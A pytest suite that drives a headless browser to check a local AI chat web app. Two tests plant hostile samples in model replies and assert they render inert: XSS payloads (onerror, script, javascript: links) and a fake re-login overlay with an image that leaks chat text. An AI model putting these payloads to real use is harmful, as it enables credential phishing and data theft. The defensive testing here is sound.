"""The web chat in a real browser (Debian's Chromium driven by Playwright) against a real `sputnik serve`."""

from __future__ import annotations

import os
import re
import shutil
import signal
import subprocess
import sys
import time

import httpx
import pytest

from sputnik.serve.config import ServeConfig
from sputnik.serve.keys import RateLimiter
from live import ANSWER, THOUGHT, Live, free_port

CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]


def chromium() -> str:
    path = shutil.which("chromium") or shutil.which("chromium-browser")
    if path is None:
        if os.environ.get("SPUTNIK_REQUIRE_BROWSER") == "1":
            pytest.fail("Debian's chromium is not installed (make test installs it)")
        pytest.skip("chromium not installed")
    return path


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=chromium(), args=CHROMIUM_FLAGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def chat_server(think_model, tmp_path_factory):
    db = tmp_path_factory.mktemp("web") / "web.db"
    cfg = ServeConfig(model=str(think_model), dtype="float32", served_name="think", no_auth=True, database_url=f"sqlite:///{db}")
    with Live(cfg) as live:
        live.app.state.auth.per_ip = RateLimiter(1000)  # every test here signs up from 127.0.0.1
        yield live.wait_ready()


def new_page(browser, live, locale="en-US"):
    context = browser.new_context(locale=locale, extra_http_headers={"Accept-Language": locale})
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.accept()))
    page.goto(live.url + "/")
    page.errors, page.dialogs = errors, dialogs  # type: ignore[attr-defined]
    return page


def sign_up(page, email: str, password: str = "correct horse battery", name: str = "Tester") -> None:
    page.click("#tab-signup")
    page.fill("#signup-name", name)
    page.fill("#signup-email", email)
    page.fill("#signup-password", password)
    page.click("#signup-submit")
    page.wait_for_selector("#composer")


def send(page, text: str) -> None:
    page.fill("#composer", text)
    page.press("#composer", "Enter")


def last_answer(page):
    return page.locator("article.msg.assistant").last


def wait_answer(page, text: str, count: int | None = None) -> None:
    page.wait_for_function(
        """([text, count]) => {
            const answers = document.querySelectorAll('article.msg.assistant');
            const last = answers[answers.length - 1];
            return last && last.querySelector('.content').textContent.trim() === text
                && document.querySelector('#send') && !document.querySelector('#send').hidden
                && (count === null || answers.length === count);
        }""", arg=[text, count], timeout=30_000)


def test_chat_thoughts_regenerate_edit_korean_ime_signout(browser, chat_server):
    page = new_page(browser, chat_server)
    assert page.get_attribute("html", "lang") == "en"
    sign_up(page, "first@example.com")
    assert page.locator("#conv-title").inner_text() == "New chat"
    assert not page.locator("#thinking-switch").is_visible()  # this model's template opens no thought to close
    send(page, "What is 2 + 2?")
    wait_answer(page, ANSWER, 1)
    # The first message names the chat, in the sidebar and the header.
    page.wait_for_function("() => document.querySelector('.conv-item.active .conv-title')?.textContent"
                           " === 'What is 2 + 2?'")
    assert page.locator("#conv-title").inner_text() == "What is 2 + 2?"
    answer = last_answer(page)
    details = answer.locator(".reasoning")
    # The thought streamed into the block, which then closed into "Thought for N seconds".
    assert THOUGHT.strip() in answer.locator(".reasoning-body").text_content()
    assert re.fullmatch(r"Thought for (1 second|\d+ seconds)", answer.locator(".reasoning summary").inner_text())
    assert details.get_attribute("open") is None
    assert page.locator("article.msg.user .content").first.inner_text() == "What is 2 + 2?"

    # Regenerate replaces the answer; edit rewrites the question and answers it again.
    with page.expect_response(lambda r: r.url.endswith("/messages") and r.request.method == "POST") as sent:
        page.click(".regenerate")
    assert sent.value.request.post_data_json["regenerate"] is True and sent.value.status == 200
    wait_answer(page, ANSWER, 1)
    page.locator("article.msg.user .edit").first.click()
    page.fill(".edit-input", "Hi")
    page.click(".edit-save")
    page.wait_for_function("() => document.querySelector('article.msg.user .content').textContent.trim() === 'Hi'",
                           timeout=30_000)
    wait_answer(page, ANSWER, 1)
    conv_id = page.locator(".conv-item.active").get_attribute("data-id")
    saved = page.evaluate("id => fetch('/api/conversations/' + id).then(r => r.json())", conv_id)
    assert [(m["role"], m["content"]) for m in saved["messages"]] == [("user", "Hi"), ("assistant", ANSWER)]
    assert saved["messages"][1]["reasoning"].strip() == THOUGHT.strip() and saved["messages"][1]["finished"]

    # Korean: the switch reloads the page in Korean, saved thoughts fold into "N초 동안 생각함".
    page.select_option("#lang-switch", "ko")
    page.wait_for_function("() => document.documentElement.lang === 'ko'")
    page.wait_for_selector("article.msg.assistant .reasoning summary")
    assert re.fullmatch(r"\d+초 동안 생각함", page.locator(".reasoning summary").first.inner_text())

    # IME: Enter while a Hangul composition is open never sends; after it is committed, Enter sends.
    page.click("#new-chat")
    assert page.locator("#conv-title").inner_text() == "새 대화"
    page.click("#composer")
    cdp = page.context.new_cdp_session(page)
    cdp.send("Input.imeSetComposition", {"text": "안녕하세", "selectionStart": 4, "selectionEnd": 4})
    page.keyboard.press("Enter")
    time.sleep(0.5)
    assert page.locator("article.msg.user").count() == 0
    cdp.send("Input.insertText", {"text": "안녕하세요"})
    # A real IME consumes the Enter that ends a composition; the synthetic one above may leave a newline.
    assert page.input_value("#composer").rstrip("\n") == "안녕하세요"
    page.press("#composer", "Enter")
    wait_answer(page, ANSWER, 1)
    assert page.locator("article.msg.user .content").first.inner_text().strip() == "안녕하세요"
    page.wait_for_function("() => document.querySelector('.conv-item.active .conv-title')?.textContent"
                           " === '안녕하세요'")  # titled in the words the user wrote
    page.fill("#conv-search", "존재하지 않는 대화")
    page.wait_for_function("() => document.querySelector('.conv-none')?.textContent === '검색과 일치하는 대화가 없습니다'")
    page.fill("#conv-search", "")
    page.wait_for_selector(".conv-item")

    page.click("#signout")
    page.wait_for_selector("#signin-email")
    assert page.evaluate("() => fetch('/api/me').then(r => r.json())")["user"] is None
    assert not page.errors and not page.dialogs


def test_first_html_follows_accept_language(chat_server):
    ko = httpx.get(chat_server.url + "/", headers={"Accept-Language": "ko-KR,ko;q=0.9,en;q=0.8"})
    en = httpx.get(chat_server.url + "/", headers={"Accept-Language": "en-GB,en;q=0.9,ko;q=0.3"})
    assert '<html lang="ko">' in ko.text and "생각" in ko.text
    assert '<html lang="en">' in en.text and "Thought for" in en.text
    assert "script-src 'self'" in ko.headers["content-security-policy"]
    assert httpx.get(chat_server.url + "/", cookies={"sputnik_lang": "ko"}).text.count('lang="ko"') == 1
    assert httpx.get(chat_server.url + "/static/vendor/katex/katex.min.js").status_code == 200


def test_xss_in_user_text_and_model_output_is_inert(browser, chat_server):
    from sputnik.web import store

    page = new_page(browser, chat_server)
    sign_up(page, "xss@example.com")
    payload = '<img src=x onerror="alert(1)"><script>alert(2)</script>[link](javascript:alert(3))'
    send(page, payload)
    wait_answer(page, ANSWER, 1)
    conv_id = page.locator(".conv-item.active").get_attribute("data-id")
    user_id = page.evaluate("() => fetch('/api/me').then(r => r.json())")["user"]["id"]
    with chat_server.app.state.db.session() as s:  # a model that answers with markup of its own
        store.add_message(s, user_id, conv_id, "assistant", payload + ' <a href="javascript:alert(4)">x</a>'
                          ' <svg onload="alert(5)"></svg> $x^2$', reasoning="<img src=y onerror=alert(6)>")
    page.reload()
    page.wait_for_selector("article.msg.assistant >> nth=1")
    time.sleep(0.5)
    listing = page.locator("#message-list")
    # Markup may survive as inert elements (an empty <svg>), but no script and no event handler does.
    found = listing.evaluate("root => [...root.querySelectorAll('*')].filter(e => e.tagName === 'SCRIPT'"
                             " || [...e.attributes].some(a => a.name.startsWith('on'))).map(e => e.outerHTML)")
    assert found == []
    assert listing.locator("a[href^='javascript']").count() == 0
    assert page.locator(".katex").count() >= 1  # LaTeX still renders
    assert "<script>" in page.locator("article.msg.user .content").first.inner_text()  # shown, not run
    assert not page.dialogs


def test_one_user_cannot_reach_another_users_conversation(browser, chat_server):
    owner = new_page(browser, chat_server)
    sign_up(owner, "owner@example.com")
    send(owner, "my secret plan")
    wait_answer(owner, ANSWER, 1)
    secret_id = owner.locator(".conv-item.active").get_attribute("data-id")
    other = new_page(browser, chat_server)
    sign_up(other, "other@example.com")
    other.goto(f"{chat_server.url}/#/c/{secret_id}")
    time.sleep(1)
    assert "my secret plan" not in other.content()
    status = other.evaluate("id => fetch('/api/conversations/' + id).then(r => r.status)", secret_id)
    assert status == 404
    assert other.locator(".conv-item").count() == 0


def test_stop_cancels_the_answer_on_the_server(browser, default_gguf, tmp_path):
    cfg = ServeConfig(model=str(default_gguf), served_name="smol", no_auth=True, database_url=f"sqlite:///{tmp_path}/w.db")
    with Live(cfg) as live:
        live.wait_ready()
        page = new_page(browser, live)
        sign_up(page, "stopper@example.com")
        page.fill("#settings-max-tokens", "2000") if page.locator("#settings-max-tokens").is_visible() else None
        send(page, "Write a very long story about a dragon who learns to count.")
        page.wait_for_function("() => { const c = document.querySelector('article.msg.assistant .content');"
                               " return c && c.textContent.length > 20; }", timeout=60_000)
        # Reloading leaves the answer running on the server; the page reattaches and sees it grow.
        before = len(last_answer(page).locator(".content").inner_text())
        page.reload()
        page.wait_for_selector("#stop", state="visible", timeout=10_000)
        page.wait_for_function("n => { const c = document.querySelector('article.msg.assistant .content');"
                               " return c && c.textContent.length > n + 20; }", arg=before, timeout=60_000)
        page.click("#stop")
        page.wait_for_selector("#send", state="visible", timeout=10_000)
        deadline = time.monotonic() + 10
        while live.metrics()["sputnik_kv_cache_rows_used"] and time.monotonic() < deadline:
            time.sleep(0.1)
        assert live.metrics()["sputnik_kv_cache_rows_used"] == 0  # the server stopped generating
        text = last_answer(page).locator(".content").inner_text()
        time.sleep(1)
        assert last_answer(page).locator(".content").inner_text() == text
        conv_id = page.locator(".conv-item.active").get_attribute("data-id")
        saved = page.evaluate("id => fetch('/api/conversations/' + id).then(r => r.json())", conv_id)
        assert saved["messages"][-1]["content"].strip() and not saved["messages"][-1]["finished"]


def test_a_restart_mid_answer_keeps_the_question_and_the_partial_answer(default_gguf, tmp_path):
    db = f"sqlite:///{tmp_path}/restart.db"

    def start(port):
        return subprocess.Popen([sys.executable, "-m", "sputnik.cli", "serve", "--model", str(default_gguf),
                                 "--port", str(port), "--no-auth", "--database-url", db, "--log-level", "warning"])

    def ready(url, proc):
        deadline = time.monotonic() + 120
        while True:
            try:
                if httpx.get(url + "/health").status_code == 200:
                    return
            except httpx.ConnectError:
                pass
            assert proc.poll() is None and time.monotonic() < deadline
            time.sleep(0.1)

    port = free_port()
    url = f"http://127.0.0.1:{port}"
    proc = start(port)
    try:
        ready(url, proc)
        client = httpx.Client(base_url=url)
        client.get("/api/me")
        csrf = client.cookies["sputnik_csrf"]
        client.post("/api/auth/signup", json={"email": "r@example.com", "password": "long enough pw"},
                    headers={"X-CSRF-Token": csrf}).raise_for_status()
        csrf = client.get("/api/me").json()["csrf"]
        body = {"content": "Tell me a long story about the sea.", "max_tokens": 2000, "temperature": 0.7}
        for _ in range(3):  # a sampled story can end before the kill (~120 tokens in): then ask again, anew
            conv = client.post("/api/conversations", json={}, headers={"X-CSRF-Token": csrf}).json()["id"]
            got, first, done = "", None, False
            with client.stream("POST", f"/api/conversations/{conv}/messages", json=body,
                                headers={"X-CSRF-Token": csrf}, timeout=60) as r:
                for line in r.iter_lines():
                    done = done or (line.startswith("data: ") and '"done"' in line)
                    if line.startswith("data: ") and '"content"' in line:
                        got, first = got + line, first or time.monotonic()
                    if done or first and time.monotonic() - first > 1.2:  # two of the answer's saves at least
                        break
                if not done:
                    os.kill(proc.pid, signal.SIGKILL)  # the server dies mid-answer
                    break
        assert got and not done, "three answers ended before the server was killed"
        proc.wait(timeout=10)
    finally:
        if proc.poll() is None:
            proc.kill()
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    proc = start(port)
    try:
        ready(url, proc)
        client = httpx.Client(base_url=url)
        client.get("/api/me")
        csrf = client.cookies["sputnik_csrf"]
        client.post("/api/auth/signin", json={"email": "r@example.com", "password": "long enough pw"},
                    headers={"X-CSRF-Token": csrf}).raise_for_status()
        messages = client.get(f"/api/conversations/{conv}").json()["messages"]
        assert messages[0]["role"] == "user" and messages[0]["content"] == body["content"]
        assert messages[1]["role"] == "assistant" and messages[1]["content"] and not messages[1]["finished"]
    finally:
        proc.terminate()
        proc.wait(timeout=30)


HOSTILE = """<div class="popover"><p>Your session expired</p><button id="relogin">Sign in again</button>
<input name="password" placeholder="Password"></div>

<form action="/api/auth/signout"><select><option>a</option></select><textarea>t</textarea></form>

<style>body { display: none }</style>after the style

![pixel]({leak}/leak?secret=chat-text) and <img src="{leak}/leak2">

<svg width="2000" height="2000"></svg> <span style="position:fixed;inset:0">overlay</span>

- [x] done task

`<b>in a code span</b>` and a block:

```python
print("<b>hi</b>")
```
"""


def test_model_output_is_markdown_never_page_html(browser, chat_server):
    from sputnik.web import store

    page = new_page(browser, chat_server)
    sign_up(page, "markup@example.com")
    send(page, "Hi")
    wait_answer(page, ANSWER, 1)
    requested: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    conv_id = page.locator(".conv-item.active").get_attribute("data-id")
    user_id = page.evaluate("() => fetch('/api/me').then(r => r.json())")["user"]["id"]
    leak = f"http://127.0.0.1:{free_port()}"
    with chat_server.app.state.db.session() as s:
        store.add_message(s, user_id, conv_id, "assistant", HOSTILE.replace("{leak}", leak))
    page.reload()
    page.wait_for_selector("article.msg.assistant >> nth=1")
    time.sleep(0.5)
    reply = last_answer(page).locator(".content")
    # Nothing a model writes carries the page's classes, styles, controls, or loads a URL it chose.
    assert reply.locator(".popover, button:not(.copy-code), input, select, textarea, form, style, svg, img,"
                         " [style], [id], [name]").count() == 0
    assert page.locator("#relogin").count() == 0
    text = reply.inner_text()
    assert '<div class="popover">' in text and "<style>" in text and "after the style" in text  # shown as text
    assert "☑ done task" in text
    assert reply.locator(f"a[href^='{leak}/leak']").count() == 1  # the markdown image is a link, not a request
    assert not [u for u in requested if "/leak" in u]
    assert reply.locator("code").first.inner_text() == "<b>in a code span</b>"
    assert reply.locator("pre code.hljs").count() == 1  # code blocks are still highlighted
    box = last_answer(page).bounding_box()
    assert box["height"] < 1500  # no 2000 px blank box
    assert page.locator("body").is_visible() and not page.dialogs

    # The raw page template is not served from /static, where it ran the chat without any CSP.
    raw = page.goto(chat_server.url + "/static/index.html")
    assert raw.status == 404 and "frame-ancestors 'none'" in raw.headers["content-security-policy"]


def set_settings(page, **fields: str) -> None:
    """Fill the page's own settings panel (#settings-temperature, #settings-max-tokens, …), then close it."""
    page.click("#settings-toggle")
    for name, value in fields.items():
        page.fill(f"#settings-{name.replace('_', '-')}", value)
    page.click("#conv-title")  # a click outside closes the panel


def test_a_failed_send_keeps_the_text_and_retries(browser, chat_server):
    page = new_page(browser, chat_server)
    sign_up(page, "offline@example.com")
    # Greedy: the test model learned single-turn chats only, and sampled at the page's default 0.6 its answer to a
    # second question is another text for about one seed in sixteen (180 of 192). Unseeded sampling draws its seed
    # from torch's global RNG, whose state here depends on every test that ran before in the process: this test
    # drew a good seed alone and with its file, and a bad one in the full suite, where it timed out waiting.
    set_settings(page, temperature="0")
    send(page, "Hi")
    wait_answer(page, ANSWER, 1)
    page.route("**/messages", lambda route: route.abort())  # the server is unreachable
    send(page, "What is 2 + 2?")
    page.wait_for_selector("#send-error:not([hidden])")
    assert page.input_value("#composer") == "What is 2 + 2?"  # not lost
    assert page.locator("article.msg.user").count() == 1  # nothing pretends it was sent
    assert "Can't reach the server" in page.locator("#send-error").inner_text()
    page.unroute("**/messages")
    page.click("#send-retry")
    wait_answer(page, ANSWER, 2)
    assert page.input_value("#composer") == "" and page.locator("#send-error").is_hidden()
    conv_id = page.locator(".conv-item.active").get_attribute("data-id")
    saved = page.evaluate("id => fetch('/api/conversations/' + id).then(r => r.json())", conv_id)
    assert [m["content"] for m in saved["messages"] if m["role"] == "user"] == ["Hi", "What is 2 + 2?"]


def test_account_page_in_korean(browser, chat_server):
    page = new_page(browser, chat_server, locale="ko-KR")
    sign_up(page, "account@example.com")
    page.click("#account-open")
    assert page.locator("#account-panel h2").inner_text() == "계정"
    page.fill("#account-instructions", "You are helpful.")
    page.click("#account-save")
    page.wait_for_function("() => document.querySelector('#account-status').textContent === '저장됨'")
    page.fill("#account-current", "correct horse battery")
    page.fill("#account-new", "a brand new password")
    page.click("#account-password-save")
    page.wait_for_function("() => document.querySelector('#account-status').textContent.startsWith('비밀번호를')")
    page.click("#account-close")
    send(page, "Hi")  # answered with the instructions as the system prompt (the test model knows that one)
    wait_answer(page, ANSWER, 1)
    page.click("#account-open")
    assert page.input_value("#account-instructions") == "You are helpful."
    page.click("#account-signout-all")
    page.wait_for_selector("#signin-email")
    page.fill("#signin-email", "account@example.com")
    page.fill("#signin-password", "a brand new password")
    page.click("#signin-submit")
    page.wait_for_selector("#composer")
    assert not page.errors and not page.dialogs


def version_label(page, role: str) -> str:
    return page.locator(f"article.msg.{role} .version-label").first.inner_text()


def wait_shown(page, role: str, msg_id: str) -> None:
    page.wait_for_function("([role, id]) => document.querySelector('article.msg.' + role)?.dataset.id === id",
                           arg=[role, msg_id], timeout=30_000)


def test_answer_versions_and_edit_branches_survive_a_reload(browser, chat_server):
    page = new_page(browser, chat_server)
    sign_up(page, "versions@example.com")
    set_settings(page, temperature="0")  # a later turn is asked too: greedy (see the failed-send test)
    send(page, "What is 2 + 2?")
    wait_answer(page, ANSWER, 1)
    first = last_answer(page).get_attribute("data-id")
    assert page.locator(".versions").count() == 0  # one version: no ‹ › control
    page.click(".regenerate")
    page.wait_for_function("() => document.querySelector('article.msg.assistant .version-label')?.textContent"
                           " === '2/2'", timeout=30_000)
    wait_answer(page, ANSWER, 1)
    second = last_answer(page).get_attribute("data-id")
    assert second != first and page.locator(".version-next").is_disabled()

    page.click("article.msg.assistant .version-prev")  # the first answer was kept, not deleted
    wait_shown(page, "assistant", first)
    assert version_label(page, "assistant") == "1/2" and page.locator(".version-prev").is_disabled()
    page.reload()  # the choice is the server's: a reload shows it
    page.wait_for_selector("article.msg.assistant .version-label")
    wait_shown(page, "assistant", first)
    assert version_label(page, "assistant") == "1/2"

    # An edit is a new version of the question with its own answer; the old question and its answers stay.
    page.locator("article.msg.user .edit").first.click()
    page.fill(".edit-input", "Hi")
    page.click(".edit-save")
    page.wait_for_function("() => document.querySelector('article.msg.user .version-label')?.textContent === '2/2'",
                           timeout=30_000)
    wait_answer(page, ANSWER, 1)
    assert page.locator("article.msg.user .content").inner_text() == "Hi"
    assert page.locator("article.msg.assistant .versions").count() == 0  # the new question's one answer
    page.click("article.msg.user .version-prev")
    page.wait_for_function("() => document.querySelector('article.msg.user .content').textContent === "
                           "'What is 2 + 2?'")
    wait_shown(page, "assistant", first)  # with the answer chosen under it before
    assert version_label(page, "user") == "1/2" and version_label(page, "assistant") == "1/2"

    # The next question follows the branch on show, and the model reads that branch.
    send(page, "Tell me something.")
    wait_answer(page, ANSWER, 2)
    conv_id = page.locator(".conv-item.active").get_attribute("data-id")
    saved = page.evaluate("id => fetch('/api/conversations/' + id).then(r => r.json())", conv_id)
    assert [m["content"] for m in saved["messages"] if m["role"] == "user"] == ["What is 2 + 2?",
                                                                               "Tell me something."]
    assert str(saved["messages"][1]["id"]) == first
    assert not page.errors and not page.dialogs


def test_continue_a_cut_off_answer_in_korean(browser, chat_server):
    page = new_page(browser, chat_server, locale="ko-KR")
    sign_up(page, "continue@example.com")
    set_settings(page, temperature="0", max_tokens="6")
    send(page, "What is 2 + 2?")
    page.wait_for_selector("article.msg.assistant .continue", timeout=30_000)  # cut at the token limit
    answer = last_answer(page)
    cut_id = answer.get_attribute("data-id")
    assert answer.locator(".continue").inner_text() == "계속 생성"
    assert answer.locator(".content").inner_text().strip() != ANSWER
    set_settings(page, max_tokens="")
    with page.expect_response(lambda r: r.url.endswith("/messages") and r.request.method == "POST") as sent:
        answer.locator(".continue").click()
    assert sent.value.request.post_data_json["continue"] is True
    wait_answer(page, ANSWER, 1)  # the same answer, written on to its end
    assert last_answer(page).get_attribute("data-id") == cut_id and page.locator(".continue").count() == 0
    assert THOUGHT.strip() in last_answer(page).locator(".reasoning-body").text_content()
    page.reload()
    wait_answer(page, ANSWER, 1)
    assert page.locator(".continue").count() == 0 and page.locator(".versions").count() == 0
    assert not page.errors and not page.dialogs


@pytest.fixture
def opens_thought_model(think_model, tmp_path):
    """The think model under an R1-style template, whose generation prompt opens <think>: a model that thinks."""
    import json

    path = tmp_path / "opens-thought"
    shutil.copytree(think_model, path)
    config = json.loads((path / "tokenizer_config.json").read_text())
    prompt = "{{ '<|im_start|>assistant\n' }}"
    assert prompt in config["chat_template"]
    config["chat_template"] = config["chat_template"].replace(prompt, "{{ '<|im_start|>assistant\n<think>\n' }}")
    (path / "tokenizer_config.json").write_text(json.dumps(config))
    return path


def test_the_effort_choice_sits_beside_the_thinking_switch_for_a_thinking_model(browser, opens_thought_model,
                                                                               tmp_path):
    cfg = ServeConfig(model=str(opens_thought_model), dtype="float32", served_name="r1", no_auth=True,
                      database_url=f"sqlite:///{tmp_path}/w.db")
    with Live(cfg) as live:
        live.wait_ready()
        page = new_page(browser, live, locale="ko-KR")
        sign_up(page, "effort@example.com")
        page.wait_for_selector("#effort-picker", state="visible")
        assert page.locator("#thinking-switch").is_visible()
        assert page.locator("#effort-picker span").inner_text() == "생각 강도"
        assert page.input_value("#settings-effort") == "high"
        page.select_option("#settings-effort", "low")
        with page.expect_response(lambda r: r.url.endswith("/messages") and r.request.method == "POST") as sent:
            send(page, "What is 2 + 2?")
        body = sent.value.request.post_data_json
        assert body["effort"] == "low" and body["thinking"] is True and sent.value.status == 200
        page.wait_for_selector("#send", state="visible", timeout=30_000)
        assert last_answer(page).locator(".reasoning-body").text_content().strip()  # it thought

        page.uncheck("#settings-thinking")  # no thought, so no effort to choose
        assert page.locator("#settings-effort").is_disabled()
        with page.expect_response(lambda r: r.url.endswith("/messages") and r.request.method == "POST") as sent:
            send(page, "Hi")
        assert sent.value.request.post_data_json["thinking"] is False
        assert "effort" not in sent.value.request.post_data_json
        page.wait_for_selector("#send", state="visible", timeout=30_000)
        assert not page.errors and not page.dialogs
